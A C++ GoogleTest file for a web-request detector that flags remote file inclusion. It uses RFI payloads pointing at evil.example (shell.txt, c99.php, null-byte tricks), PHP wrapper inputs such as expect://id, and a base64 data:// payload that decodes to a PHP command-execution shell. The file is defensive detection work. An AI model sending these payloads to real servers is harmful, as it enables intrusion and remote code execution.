#include <string>

#include <gtest/gtest.h>

#include "core/detect/input/input_detector.hpp"

namespace vigil::detect::input {
namespace {

bool fires(std::string_view value, Hit* out = nullptr, std::string_view name = "q",
           Source source = Source::kQuery) {
  Candidate c{value, features_of(value), Form::kRaw, 0, source, name};
  Hit hit;
  bool r = detect_rfi(c, &hit);
  if (out != nullptr) *out = hit;
  return r;
}

TEST(RfiInput, ScriptParameterHoldsARemoteUrl) {
  Hit hit;
  EXPECT_TRUE(fires("/cfagcms/themes/default/index.php?main=http://evil.example/shell.txt", &hit));
  EXPECT_NE(hit.reason.find("index.php"), std::string::npos) << hit.reason;
  EXPECT_NE(hit.reason.find("main"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("/index.php?news7[\"functions\"]=http://evil.example/x"));
  EXPECT_TRUE(fires("/admin/auth.php?xcart_dir=https://evil.example/"));
  EXPECT_TRUE(fires("/psynch/nph-psf.exe?css=http://evil.example/c"));
  EXPECT_TRUE(fires("/index2.php?=http://evil.example/x"));
  EXPECT_TRUE(fires("/mod.php?a=1&b=2&inc=//evil.example/x"));  // scheme-relative
  EXPECT_TRUE(fires("/in.php?returnpath=ftp://evil.example/x.txt"));
  // Include scanners also glue the name to the URL.
  EXPECT_TRUE(fires("/core/recent_list.php?absoluteurlhttp://evil.example/shell.txt"));
}

TEST(RfiInput, PathTargetsAndIncludableFiles) {
  EXPECT_TRUE(fires("/patch/?language_id=http://evil.example/shell.txt"));
  EXPECT_TRUE(fires("/sid=http://evil.example/shell.txt"));
  EXPECT_TRUE(fires("/=http://evil.example/shell.txt"));
  EXPECT_TRUE(fires("?show=http://evil.example/code.inc"));
}

TEST(RfiInput, Neutralisers) {
  Hit hit;
  EXPECT_TRUE(fires("http://evil.example/shell.txt?", &hit));
  EXPECT_NE(hit.reason.find("'?'"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires("http://evil.example/x.txt??"));
  EXPECT_TRUE(fires("http://evil.example/x.php?&cmd=id"));
  EXPECT_TRUE(fires("http://evil.example/x.txt%00", &hit));
  EXPECT_NE(hit.reason.find("NUL"), std::string::npos) << hit.reason;
  EXPECT_TRUE(fires(std::string_view("http://evil.example/x.txt\0.php", 30)));
  EXPECT_TRUE(fires("http://evil.example/payload.txt?cmd=ls"));  // a query on a text file
  EXPECT_TRUE(fires("http://evil.example/c99.php"));            // a known web shell
  EXPECT_TRUE(fires("/sample/parser_path=http://evil.example/shell.txt?"));
}

TEST(RfiInput, Wrappers) {
  EXPECT_TRUE(fires("data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="));
  EXPECT_TRUE(fires("data:text/plain,<?php phpinfo(); ?>"));
  EXPECT_TRUE(fires("php://input"));
  EXPECT_TRUE(fires("expect://id"));
  EXPECT_FALSE(fires("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="));
}

TEST(RfiInput, InsideReferer) {
  Hit hit;
  EXPECT_TRUE(fires(
      "https://shop.example/search?q=%2Flogin.php%3Flangfile%3Dhttp%3A%2F%2Fevil.example%2Fs.txt",
      &hit, "Referer", Source::kHeader));
  EXPECT_NE(hit.reason.find("login.php"), std::string::npos) << hit.reason;
  // A Referer page that shares a link is a page, not an inclusion.
  EXPECT_FALSE(fires("https://news.example/share.php?url=https://blog.example/post.txt",
                     nullptr, "Referer", Source::kHeader));
}

TEST(RfiInput, LinksStayClean) {
  EXPECT_FALSE(fires("https://www.gnu.org/licenses/gpl-3.0.txt"));
  EXPECT_FALSE(fires("https://raw.githubusercontent.com/u/r/main/install.sh"));
  EXPECT_FALSE(fires("https://cdn.example/img/photo.png?w=200&h=100"));
  EXPECT_FALSE(fires("https://www.example.com/index.html?"));
  EXPECT_FALSE(fires("http://svn.debian.org/wsvn/dep/web/deps/dep5.mdwn?rev=174"));
  // Sharing scripts take links.
  EXPECT_FALSE(fires("https://www.facebook.com/sharer/sharer.php?u=https://news.example/a"));
  EXPECT_FALSE(fires("https://validator.example/check.cgi?uri=https://site.example/"));
  EXPECT_FALSE(fires("See http://evil.example/shell.txt? It was posted yesterday."));
  EXPECT_FALSE(fires("/search?q=http://example.com/page"));
}

}  // namespace
}  // namespace vigil::detect::input
